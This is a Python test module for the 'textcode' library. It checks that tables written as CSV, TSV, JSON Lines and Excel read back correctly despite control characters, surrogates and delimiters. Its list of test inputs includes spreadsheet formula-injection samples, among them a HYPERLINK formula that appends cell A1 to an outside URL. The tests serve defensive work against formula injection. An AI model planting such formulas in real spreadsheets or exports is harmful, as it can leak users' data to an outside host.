"""Every table textcode writes (CSV, TSV, JSON Lines, Excel) reads back to the same values, with
pandas and with textcode, whatever the texts hold: control characters, CR/LF, quotes,
delimiters, formulas, emoji, right-to-left marks, lone surrogates.

The same values means: exactly the texts written, except what a format cannot hold, replaced by
U+FFFD (and counted), a people CSV's ``'`` before a formula, and a spreadsheet's line ends as
``\\n``; nothing else is lost, shifted or cut.
"""

from __future__ import annotations

import io
import json
import re
import warnings
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from textcode.ingest import read_answers
from textcode.io.cells import ReplacedCharactersWarning, Replacements, neutralised
from textcode.io.delimited import people_csv_bytes, rows_csv
from textcode.io.table import write_table

# Pieces real hostile answers are made of, around Dutch words.
PIECES = [
    "Gebrek aan budget",
    "te weinig mensen",
    "ideeën",
    "café",
    '=HYPERLINK("http://x.nl/?x="&A1,"klik")',
    "=1+1",
    "+31 6 12345678",
    "-",
    "@SUM(A1)",
    "\t",
    "\r",
    "\n",
    "\r\n",
    '"',
    "'",
    ",",
    ";",
    "|",
    "\x00",
    "\x01",
    "\x0b",
    "\x1f",
    "\x7f",
    "\x85",
    "\u2028",
    "\u200f",
    "\u202e",
    "😀",
    "\ud800",
    "\udfff",
    "_x0041_",
    " ",
]
TEXTS = st.lists(st.sampled_from(PIECES), max_size=6).map("".join)
TABLES = st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=4)

_LONE = re.compile("[\ud800-\udfff]")
_NOT_IN_XLSX = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]")


def _csv_expected(text: str, *, people: bool) -> str:
    value = _LONE.sub("\ufffd", text.replace("\x00", "\ufffd"))
    return neutralised(value) if people else value


def _xlsx_expected(text: str) -> str:
    return _NOT_IN_XLSX.sub("\ufffd", text.replace("\r\n", "\n").replace("\r", "\n"))


def _frame(rows: list[tuple[str, str]]) -> pd.DataFrame:
    # dtype=object: pandas' own string type cannot even hold a lone surrogate.
    return pd.DataFrame(
        {
            "response_id": [f"r{n}" for n in range(1, len(rows) + 1)],
            "kennisbehoefte": [a for a, _ in rows],
            "belemmering": [b for _, b in rows],
        },
        dtype=object,
    )


def _read_back(path: Path, **options: object) -> tuple[pd.DataFrame, pd.DataFrame]:
    """The file as pandas reads it (every cell text) and as textcode reads it."""
    suffix = path.suffix
    if suffix == ".xlsx":
        by_pandas = pd.read_excel(path, dtype=str, keep_default_na=False)
    elif suffix == ".jsonl":
        by_pandas = pd.read_json(path, lines=True, dtype=False)
    else:
        sep = "\t" if suffix == ".tsv" else ","
        by_pandas = pd.read_csv(
            path, sep=sep, dtype=str, keep_default_na=False, encoding="utf-8-sig", **options
        )
    by_textcode = read_answers(
        path, id_column="response_id", text_columns=["kennisbehoefte", "belemmering"]
    )
    return by_pandas, by_textcode


def _textcode_values(answers: pd.DataFrame) -> list[tuple[str, str]]:
    texts = answers["text"].tolist()
    return list(zip(texts[0::2], texts[1::2], strict=True))


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(rows=TABLES, suffix=st.sampled_from([".csv", ".tsv", ".jsonl", ".xlsx"]))
def test_a_written_table_reads_back_to_the_same_values(
    tmp_path: Path, rows: list[tuple[str, str]], suffix: str
) -> None:
    frame = _frame(rows)
    path = tmp_path / f"schoon{suffix}"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ReplacedCharactersWarning)
        write_table(frame, str(path))
    if suffix == ".xlsx":
        expected = [(_xlsx_expected(a), _xlsx_expected(b)) for a, b in rows]
    elif suffix == ".jsonl":
        expected = [(_LONE.sub("\ufffd", a), _LONE.sub("\ufffd", b)) for a, b in rows]
    else:
        expected = [
            (_csv_expected(a, people=False), _csv_expected(b, people=False)) for a, b in rows
        ]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a NUL-heavy file or a mixed one may warn on reading
        by_pandas, by_textcode = _read_back(path)
    assert list(zip(by_pandas["kennisbehoefte"], by_pandas["belemmering"], strict=True)) == expected
    assert _textcode_values(by_textcode) == expected
    if suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)


@settings(max_examples=60, deadline=None)
@given(rows=TABLES)
def test_a_people_csv_reads_back_neutralised_and_a_machine_csv_exact(
    rows: list[tuple[str, str]],
) -> None:
    header = ["response_id", "kennisbehoefte", "belemmering"]
    body = [[f"r{n}", a, b] for n, (a, b) in enumerate(rows, start=1)]
    for people in (False, True):
        tally = Replacements()
        text = rows_csv(body, header=header, people=people, tally=tally)
        back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
        expected = [
            (_csv_expected(a, people=people), _csv_expected(b, people=people)) for a, b in rows
        ]
        assert list(zip(back["kennisbehoefte"], back["belemmering"], strict=True)) == expected
        assert tally.characters == sum(
            len(re.findall("[\x00\ud800-\udfff]", a + b)) for a, b in rows
        )
    frame = pd.DataFrame(body, columns=header, dtype=object)
    data = people_csv_bytes(frame)
    assert data.startswith("\ufeff".encode())
    back = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert back["kennisbehoefte"].tolist() == [_csv_expected(a, people=True) for a, _ in rows]


def test_a_carriage_return_inside_an_answer_is_quoted(tmp_path: Path) -> None:
    """The csv module leaves a lone CR unquoted when rows end in LF; every reader then splits."""
    frame = _frame([("Meer kennis over\r wetgeving nodig", "Geen budget")])
    write_table(frame, str(tmp_path / "r.csv"))
    assert (tmp_path / "r.csv").read_bytes() == (
        b'response_id,kennisbehoefte,belemmering\nr1,"Meer kennis over\r wetgeving nodig",'
        b"Geen budget\n"
    )


def test_replaced_characters_are_counted_in_one_warning_naming_the_file(tmp_path: Path) -> None:
    frame = _frame([("Gebrek aan budget\x00\x01\x0b\x1f en tijd", "ok"), ("a\x01b", "\ud800")])
    out = tmp_path / "schoon.xlsx"
    with pytest.warns(ReplacedCharactersWarning) as caught:
        write_table(frame, str(out))
    (message,) = [str(w.message) for w in caught]
    assert message.startswith(str(out)) and "6 characters" in message and "3 cells" in message
    sheet = openpyxl.load_workbook(out).active
    assert sheet["B2"].value == "Gebrek aan budget\ufffd\ufffd\ufffd\ufffd en tijd"


def test_lists_and_objects_become_json_text(tmp_path: Path) -> None:
    frame = pd.DataFrame({"response_id": ["r1"], "tags": [["budget", "tijd"]], "meta": [{"a": 1}]})
    for suffix in (".csv", ".xlsx"):
        write_table(frame, str(tmp_path / f"t{suffix}"))
    back = pd.read_csv(tmp_path / "t.csv", dtype=str)
    assert json.loads(back.loc[0, "tags"]) == ["budget", "tijd"]
    assert json.loads(pd.read_excel(tmp_path / "t.xlsx").loc[0, "meta"]) == {"a": 1}
